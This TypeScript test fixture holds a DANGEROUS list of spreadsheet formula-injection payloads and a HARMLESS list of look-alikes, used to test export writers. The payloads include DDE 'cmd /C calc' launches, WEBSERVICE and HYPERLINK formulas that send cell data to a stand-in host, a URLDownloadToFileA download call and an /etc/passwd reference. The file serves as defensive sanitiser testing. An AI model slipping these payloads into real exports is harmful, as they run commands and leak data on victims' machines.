/** Texts that attackers put into names, banners and exports so that a report runs them; and texts that only resemble them. For the tests of both writers. */
export const DANGEROUS: readonly string[] = [
  '=1+1', '+1+1', '-1+1', '@SUM(1,1)', '=cmd|\' /C calc\'!A0', '+cmd|\' /C calc\'!A0', '-cmd|\' /C calc\'!A0', '@cmd|\' /C calc\'!A0', '=HYPERLINK("http://192.0.2.1/?x="&A1,"click")', '=WEBSERVICE("http://192.0.2.1/"&A1)',
  '=IMPORTXML("http://192.0.2.1","//a")', '=IMPORTDATA("http://192.0.2.1")', '=IMPORTRANGE("x","A1")', '=IMAGE("http://192.0.2.1/p.png")', '=DDE("cmd";"/C calc";"x")', '=MSEXCEL|\'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe\'!\'\'',
  '=EXEC("calc.exe")', '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://192.0.2.1/a","a",0,0)', '=REGISTER.ID("x","y")', '=INDIRECT("A1")', '=rundll32|\'URL.dll,OpenURL calc.exe\'!A', '=10+20+cmd|\' /C calc\'!A0', '=-cmd|\' /C calc\'!A0',
  '=+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!D2', '--1', '++1', '+49 89 1234', '-PLC-01', '@plant', '=', '+', '-', '@', '\t=1+1', '\r=1+1', '\n=1+1', '\tx', '\rx', '\nx', '\0=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1,1)', ' =1+1', '  +1',
  '\u00a0=1+1', '\ufeff=1+1', '\u200b=1+1', '\u202e=1+1', '\u3000＝1+1', '﹦1+1', '−1+1', '=\'file:///etc/passwd\'#$passwd.A1', '={1;2}', '=A1&"x"', '=LAMBDA(x,x)(1)', '=_xlfn.FILTERXML("<a/>","//a")',
];

export const HARMLESS: readonly string[] = ['', 'PLC-01', '10.0.0.1', '1E5', '00012', '00:1a:2b:3c:4d:5e', 'a=b', 'x+1', '"=1+1"', '\'=1+1', '(=1)', '/=1', '#1', '1-1', 'ü=', ' a', '\u00a0a', '$=1', '%=1', '｜=', '📟=1', 'mail@example.test', '<script>', '&amp;', '_x003D_1+1'];
